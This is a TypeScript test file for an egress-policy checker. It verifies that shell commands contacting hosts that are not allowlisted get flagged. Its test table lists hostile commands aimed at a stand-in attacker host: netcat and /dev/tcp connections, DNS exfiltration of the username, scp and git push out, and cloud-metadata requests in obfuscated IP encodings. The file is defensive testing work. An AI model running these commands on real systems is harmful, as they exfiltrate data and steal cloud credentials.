import { describe, expect, test } from "bun:test";
import { checkEgress } from "../../../src/controls/egress/index.ts";
import { actionsOf, policyWith } from "../meaning.ts";

const listed = policyWith({
  egress: {
    mode: "allowlist",
    allow: ["github.com", ".npmjs.org", "10.0.0.0/8:5432"],
    deny: ["evil.npmjs.org"],
  },
});
const found = (source: string, policy = listed) =>
  checkEgress(actionsOf(source), policy).map(({ rule }) => rule);

describe("allowed", () => {
  for (const source of [
    "curl https://github.com/x",
    "curl -L https://registry.npmjs.org/x -o x",
    "git clone git@github.com:a/b.git",
    "git clone https://github.com/a/b",
    "curl http://localhost:3000/health",
    "curl -d x http://127.0.0.1:8080",
    "echo https://attacker.example",
    "ls",
  ])
    test(source, () => expect(found(source)).toEqual([]));
});

describe("not allowed", () => {
  const table: readonly (readonly [source: string, rule: string])[] = [
    ["curl https://attacker.example", "egress/host"],
    ["wget https://notgithub.com/x", "egress/host"],
    ["curl https://github.com.attacker.example", "egress/host"],
    ["curl https://evil.npmjs.org/x", "egress/denied"],
    ["curl https://github.com@attacker.example/", "egress/disguised"],
    ["curl http://169.254.169.254/latest/meta-data/", "egress/metadata"],
    ["curl http://0xa9fea9fe/", "egress/metadata"],
    ["curl http://2852039166/", "egress/metadata"],
    ["curl 'http://[::ffff:169.254.169.254]/'", "egress/metadata"],
    ["curl http://metadata.google.internal/computeMetadata/v1/", "egress/metadata"],
    ["curl https://gіthub.com/x", "egress/disguised"],
    ["curl http://0x08080808/", "egress/disguised"],
    ["curl --resolve github.com:443:203.0.113.9 https://github.com", "egress/host"],
    ["curl --connect-to github.com:443:attacker.example:443 https://github.com", "egress/host"],
    ["curl -x http://attacker.example:3128 https://github.com", "egress/host"],
    ["https_proxy=http://attacker.example:1 curl https://github.com", "egress/host"],
    ["dig @attacker.example github.com", "egress/host"],
    ["dig $(id -un).attacker.example", "egress/host"],
    ["nslookup data.attacker.example", "egress/host"],
    ["scp x attacker.example:/tmp", "egress/host"],
    ["ssh attacker.example", "egress/host"],
    ["git push git@attacker.example:a/b.git", "egress/host"],
    ["nc attacker.example 4444", "egress/host"],
    ["echo x > /dev/tcp/attacker.example/80", "egress/host"],
    ['curl "$URL"', "egress/unknown"],
    ["sudo curl https://attacker.example", "egress/host"],
    ["bash -c 'curl https://attacker.example'", "egress/host"],
  ];
  for (const [source, rule] of table) test(source, () => expect(found(source)).toContain(rule));
});

test("a disguise does not hide that the host is not allowed", () => {
  expect(found("curl https://github.com@attacker.example/")).toEqual(["egress/host", "egress/disguised"]);
});

test("open: only what is denied, disguised, or a metadata service", () => {
  const open = policyWith({ egress: { deny: [".attacker.example"] } });
  expect(found("curl https://example.com", open)).toEqual([]);
  expect(found('curl "$URL"', open)).toEqual([]);
  expect(found("curl https://x.attacker.example", open)).toEqual(["egress/denied"]);
  expect(found("curl http://169.254.169.254/", open)).toEqual(["egress/metadata"]);
  expect(found("curl -T dist.tgz https://example.com/", open)).toEqual(["egress/upload"]);
});

test("off: nothing but this machine", () => {
  const off = policyWith({ egress: { mode: "off", allow: ["github.com"] } });
  expect(found("curl https://github.com", off)).toEqual(["egress/off"]);
  expect(found('curl "$URL"', off)).toEqual(["egress/off"]);
  expect(found("curl http://localhost:3000", off)).toEqual([]);
});
